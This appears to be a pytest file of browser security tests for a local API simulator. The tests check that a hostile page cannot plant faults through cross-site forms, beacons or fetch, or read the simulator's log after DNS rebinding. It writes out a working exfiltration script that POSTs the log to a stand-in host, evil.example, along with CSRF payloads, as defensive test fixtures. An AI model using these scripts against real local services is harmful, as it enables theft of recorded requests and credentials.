"""A hostile page in a real browser (marker ``browser``): it tries to take over a simulator on this machine."""

from __future__ import annotations

import contextlib
import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import httpx
import pytest
from support.console_browser import CHROMIUM, browser

from compose_async.simulator import Fault, Simulator

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = [
    pytest.mark.browser,
    pytest.mark.timeout(60),
    pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium"),
]

HEADERS = {"Authorization": "Bearer simulator-token"}
EVERYWHERE = "--host-resolver-rules=MAP *.example 127.0.0.1"
"""Every name of the attacker leads to this machine, as with DNS rebinding."""


class Attacker:
    """A web server that serves one page at every path, and keeps what is posted to it."""

    def __init__(self, port: int) -> None:
        self.url = f"http://evil.example:{port}/"
        self.page = ""
        self.loot: list[str] = []


@contextlib.contextmanager
def attacker() -> Iterator[Attacker]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            content = evil.page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def do_POST(self) -> None:
            evil.loot.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - so it is called
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        evil = Attacker(server.server_port)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield evil
        server.shutdown()


def script(value: object) -> str:
    """JSON that can stand inside of a script element."""
    return json.dumps(value).replace("</", "<\\/")


def thief(evil: Attacker) -> str:
    """A script that reads what the simulator recorded, from the simulator's own origin, and sends it away."""
    return f"""<script>
      const send = text => fetch("{evil.url}loot", {{method: "POST", mode: "no-cors", body: text}});
      fetch("/_simulator/requests").then(r => r.text()).then(send, error => send("failed: " + error));
    </script>"""


def test_a_foreign_page_cannot_plant_a_fault_whose_script_reads_the_log(tmp_path: Path) -> None:
    sim = Simulator()
    with sim.serve() as server, attacker() as evil, browser(tmp_path / "profile", EVERYWHERE) as page:
        httpx.get(f"{server.base_url}/user", headers={**HEADERS, "Cookie": "session=hunter2"})
        root = server.base_url.removesuffix("2016-07")
        fault = json.dumps({"path": "/user", "body": thief(evil), "times": None})
        name, _, value = fault.partition("=")  # a form sends an equals sign between the two
        # By a script, by a form, and from another port of the very same name.
        evil.page = f"""
          <iframe name=sink></iframe>
          <form method=post enctype=text/plain target=sink action="{root}_simulator/faults"><textarea></textarea></form>
          <script>
            const field = document.querySelector("textarea");
            [field.name, field.value] = {script([name, value])};
            document.forms[0].submit();
            for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"])
              navigator.sendBeacon("{root}_simulator/faults", new Blob([{script(fault)}], {{type}}));
            fetch("{root}_simulator/faults", {{method: "POST", mode: "no-cors", body: {script(fault)}}})
              .then(() => fetch("{root}_simulator/state", {{mode: "no-cors"}})).catch(() => 0)
              .then(() => document.title = "done");
          </script>"""
        for origin in (evil.url, evil.url.replace("evil.example", "127.0.0.1")):
            page.open(origin)
            page.wait_for("document.title === 'done'")
            assert sim.faults.active() == []
        page.open(f"{server.base_url}/user")
        time.sleep(0.5)  # for the script of a fault, had it been planted
        assert evil.loot == []


@pytest.mark.parametrize("framed", [False, True])
def test_a_script_in_the_body_of_a_fault_reads_nothing(tmp_path: Path, framed: bool) -> None:
    sim = Simulator()
    with sim.serve() as server, attacker() as evil, browser(tmp_path / "profile", EVERYWHERE) as page:
        evil.page = f"""<title>evil</title><iframe src="{server.base_url}/user" onload="document.title = 'done'">"""
        sim.faults.add(Fault(path="/user", body=f"<h1>Bad Gateway</h1>{thief(evil)}", times=None))
        if framed:
            page.open(evil.url)
            page.wait_for("document.title === 'done'")
        else:
            page.open(f"{server.base_url}/user")
            page.wait_for("document.body.innerText.includes('Bad Gateway')")
        time.sleep(0.5)
        assert evil.loot == []


def test_a_name_that_is_rebound_to_this_machine_reads_nothing(tmp_path: Path) -> None:
    sim = Simulator()
    with sim.serve() as server, browser(tmp_path / "profile", EVERYWHERE) as page:
        httpx.get(f"{server.base_url}/user", headers=HEADERS)
        rebound = f"http://evil.example:{urlsplit(server.base_url).port}"
        page.open(f"{rebound}/2016-07/user")  # a page of the attacker's origin, as far as the browser knows
        statuses = page.run("""Promise.all(["/", "/_simulator/state", "/_simulator/requests"].map(
            path => fetch(path).then(response => response.status)))""")
        assert statuses == [403, 403, 403]
        planted = page.run("""fetch("/_simulator/faults", {method: "POST", body: '{"drop": true}',
            headers: {"Content-Type": "application/json"}}).then(response => response.status)""")
        assert (planted, sim.faults.active()) == (403, [])
